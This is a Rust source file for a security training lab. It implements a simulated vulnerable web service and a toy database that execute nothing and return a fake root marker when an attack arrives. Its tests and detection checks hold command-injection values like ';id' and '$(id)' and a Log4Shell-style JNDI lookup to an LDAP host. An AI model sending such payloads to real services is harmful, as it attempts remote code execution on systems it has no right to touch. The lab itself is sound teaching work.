//! The two servers of the lab: a web service that can be "exploited", and something like a database.
//!
//! Both are inert: nothing that a client sends is executed, looked up or stored. Where a real service would have fallen,
//! the web service answers with [`MARKER`], so that everybody can see whether the attack arrived.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// What an exploited endpoint answers.
pub const MARKER: &str = "uid=0(root) gid=0(root) (simulated: nothing was executed)";
/// Where the servers listen.
pub const WEB_PORT: u16 = 80;
pub const DATABASE_PORT: u16 = 5432;

/// Bytes of a request head or of a line.
const REQUEST_BYTES_MAX: u64 = 16 << 10;
/// Connections served at the same time; further ones are closed at once.
const CONNECTIONS_MAX: usize = 64;
/// How long a client may say nothing.
const IDLE: Duration = Duration::from_secs(5);
/// Lines that one database connection may send.
const LINES_MAX: usize = 1000;

/// What a node of the lab does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// Listens to nothing: its traffic is made in its namespace by the lab.
    Attacker,
    Web,
    Database,
}

impl Role {
    pub const ALL: [Self; 3] = [Self::Attacker, Self::Web, Self::Database];

    pub const fn name(self) -> &'static str {
        match self {
            Self::Attacker => "attacker",
            Self::Web => "web",
            Self::Database => "database",
        }
    }

    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|r| r.name() == name)
    }

    /// None for the attacker.
    pub const fn port(self) -> Option<u16> {
        match self {
            Self::Attacker => None,
            Self::Web => Some(WEB_PORT),
            Self::Database => Some(DATABASE_PORT),
        }
    }
}

/// Serves until the listener fails; each connection on a thread of its own.
pub fn serve(role: Role, listener: &TcpListener) -> io::Result<()> {
    let open = AtomicUsize::new(0);
    std::thread::scope(|s| {
        loop {
            let (stream, _) = listener.accept()?;
            if open.fetch_add(1, Ordering::Relaxed) >= CONNECTIONS_MAX {
                open.fetch_sub(1, Ordering::Relaxed);
                continue;
            }
            let open = &open;
            s.spawn(move || {
                let _ = serve_one(role, stream); // a client that goes away is its own affair
                open.fetch_sub(1, Ordering::Relaxed);
            });
        }
    })
}

fn serve_one(role: Role, stream: TcpStream) -> io::Result<()> {
    stream.set_read_timeout(Some(IDLE))?;
    stream.set_write_timeout(Some(IDLE))?;
    stream.set_nodelay(true)?;
    match role {
        Role::Attacker => Ok(()),
        Role::Web => web(stream),
        Role::Database => database(stream),
    }
}

/// One request a connection, as HTTP/1.0 has it.
fn web(mut stream: TcpStream) -> io::Result<()> {
    let mut head = Vec::new();
    let mut reader = BufReader::new(stream.try_clone()?.take(REQUEST_BYTES_MAX));
    while !head.ends_with(b"\r\n\r\n") && !head.ends_with(b"\n\n") {
        if reader.read_until(b'\n', &mut head)? == 0 {
            break;
        }
    }
    let (status, body) = answer(&head);
    write!(stream, "HTTP/1.1 {status}\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
}

/// The web service's answer to a request head: status and body. Pure, so that every byte of it can be tested.
pub fn answer(head: &[u8]) -> (&'static str, String) {
    let head = String::from_utf8_lossy(head);
    let Some(target) = head.lines().next().and_then(|l| l.split(' ').nth(1)) else {
        return ("400 Bad Request", "no request line\n".into());
    };
    if head.to_ascii_lowercase().contains("${jndi:") {
        return ("200 OK", format!("{MARKER}\n"));
    }
    match target.split_once('?') {
        Some(("/ping", query)) => {
            let host = query.strip_prefix("host=").unwrap_or_default();
            if decoded(host).contains([';', '|', '&', '`', '$']) {
                ("200 OK", format!("{MARKER}\n"))
            } else {
                ("200 OK", "1 host is alive\n".into())
            }
        }
        None if target == "/" => ("200 OK", "hello from the lab\n".into()),
        Some(_) | None => ("404 Not Found", "nothing here\n".into()),
    }
}

/// Percent-decoded; a wrong escape stays as it is.
fn decoded(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let digit = |offset: usize| bytes.get(at + offset).and_then(|b| char::from(*b).to_digit(16));
        match (byte, digit(1), digit(2)) {
            (b'%', Some(high), Some(low)) => {
                out.push((high * 16 + low) as u8);
                at += 3;
            }
            (other, _, _) => {
                out.push(other);
                at += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn database(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(b"lab database ready\n")?;
    let mut reader = BufReader::new(stream.try_clone()?);
    for _ in 0..LINES_MAX {
        let mut line = Vec::new();
        if reader.by_ref().take(REQUEST_BYTES_MAX).read_until(b'\n', &mut line)? == 0 {
            break;
        }
        let reply: &[u8] = match line.trim_ascii() {
            b"PING" => b"PONG\n",
            b"SELECT customers" => b"2 rows: A. Example, B. Example\n",
            b"QUIT" => break,
            _ => b"ERR\n",
        };
        stream.write_all(reply)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get(target: &str) -> String {
        answer(format!("GET {target} HTTP/1.1\r\nHost: lab\r\n\r\n").as_bytes()).1
    }

    #[test]
    fn benign_requests_are_answered_and_exploits_get_the_marker() {
        assert_eq!(get("/"), "hello from the lab\n");
        assert_eq!(get("/ping?host=192.0.2.1"), "1 host is alive\n");
        for exploit in ["/ping?host=;id", "/ping?host=x%3Bid", "/ping?host=x%7cid", "/ping?host=$(id)"] {
            assert!(get(exploit).starts_with("uid=0(root)"), "{exploit}");
        }
        let jndi = answer(b"GET / HTTP/1.1\r\nX-Api: ${JNDI:ldap://192.0.2.9/x}\r\n\r\n").1;
        assert!(jndi.starts_with("uid=0(root)"));
    }

    #[test]
    fn rubbish_is_answered_politely() {
        for head in
            [&b""[..], b"\r\n\r\n", b"GET", b"\xff\xfe\x00", b"GET  HTTP/1.1", b"GET /ping?host=% HTTP", b"GET /ping?host=%zz%3 HTTP"]
        {
            let (status, body) = answer(head);
            assert!(!body.contains("uid=0"), "{status} {body}");
        }
        assert_eq!(decoded("%41%4"), "A%4");
    }

    #[test]
    fn every_role_is_found_by_its_name() {
        assert!(Role::ALL.iter().all(|r| Role::from_name(r.name()) == Some(*r)));
        assert_eq!(Role::from_name("nobody"), None);
    }
}
